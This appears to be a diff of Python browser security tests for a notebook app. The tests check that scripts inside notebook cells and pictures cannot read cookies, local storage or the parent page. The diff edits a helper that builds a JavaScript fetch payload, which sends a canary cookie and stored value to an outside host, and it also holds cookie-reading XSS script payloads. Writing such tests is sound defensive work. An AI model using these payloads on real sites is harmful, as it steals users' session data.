@@ -99,9 +99,13 @@ def void(_: Any) -> None:
     return None
 
 
+COOKIE = f"document.cookie.slice(-{len(f'canary={SECRET}')})"
+"""The cookie that is a secret; before it stands one of the page, which says who is signed in."""
+
+
 def loot(elsewhere: str) -> str:
     """Code that carries the secrets away, without a space or a quote that would end it anywhere."""
-    return f"fetch('{elsewhere}/loot?'+document.cookie+localStorage.canary)"
+    return f"fetch('{elsewhere}/loot?'+{COOKIE}+localStorage.canary)"
 
 
 def handler(elsewhere: str) -> str:
@@ -117,7 +121,7 @@ SCRIPTS = [
         "a script reads cookies, storage and the page",
         lambda _: [
             script(
-                "await attempt('cookie', () => document.cookie);"
+                f"await attempt('cookie', () => {COOKIE});"
                 "await attempt('storage', () => localStorage.canary);"
                 "await attempt('page', () => parent.document.title);"
                 "await attempt('cookies of all', () => cookieStore.getAll())"
@@ -407,9 +411,9 @@ def test_words_are_words_wherever_they_stand(
     without = () if guarded else (hostile.text_as_text, ANY_POLICY)
     with opened(house, chromium, recorder, cells, without=without) as scene:
         for number in range(len(cells)):
-            outputs = scene.page.locator(".cell").nth(number).locator(".outputs")
-            outputs.scroll_into_view_if_needed()
-            outputs.get_by_text("begun").first.wait_for()
+            cell = scene.page.locator(".cell").nth(number)
+            cell.scroll_into_view_if_needed()
+            cell.locator(".outputs").get_by_text("begun").first.wait_for()
         if guarded:
             assert heard.heard() == []
             assert scene.page.title() == "hostile · In The Loop"
@@ -458,7 +462,7 @@ def test_a_picture_that_is_opened_by_itself_runs_nothing(
         assert ran == (None if guarded else SECRET)
 
 
-PAGE = "<!doctype html><p>here<script>document.title = document.cookie</script>"
+PAGE = f"<!doctype html><p>here<script>document.title = {COOKIE}</script>"
 
 
 @pytest.mark.parametrize(
